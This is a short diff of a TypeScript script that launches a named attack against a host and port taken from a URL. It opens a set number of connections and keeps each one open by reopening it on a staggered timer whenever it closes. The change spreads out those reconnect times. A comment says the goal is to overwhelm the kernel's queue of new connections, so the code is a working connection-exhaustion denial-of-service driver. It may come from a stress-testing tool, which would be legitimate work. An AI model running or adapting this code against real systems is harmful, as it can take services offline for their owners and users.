@@ -4,17 +4,17 @@ const [name = '', url = '', from = '', asset = ''] = process.argv.slice(2);
 const { connections, attack } = attacksWith(asset)[name as AttackName];
 const { hostname, port } = new URL(url);
 const aim = { host: hostname, port: Number(port), from };
-// A stranger who is turned away comes back, without spending the machine on it.
+// A stranger who is turned away comes back, one connection after the other, without spending the machine on it.
 const BACK_AFTER_MS = 5_000;
 
-async function keepOpen(): Promise<void> {
-  const comeBack = () => setTimeout(keepOpen, BACK_AFTER_MS);
+async function keepOpen(place: number): Promise<void> {
+  const comeBack = () => setTimeout(keepOpen, BACK_AFTER_MS * (0.5 + place / connections), place);
   await attack(aim).then((socket) => socket.once('close', comeBack), comeBack);
 }
 
 // All at once is what the kernel's queue of new connections cannot hold.
 for (let begun = 0; begun < connections; begun++) {
-  void keepOpen();
+  void keepOpen(begun);
   if (begun % 50 === 0) await new Promise((next) => setImmediate(next));
 }
 console.log('begun');
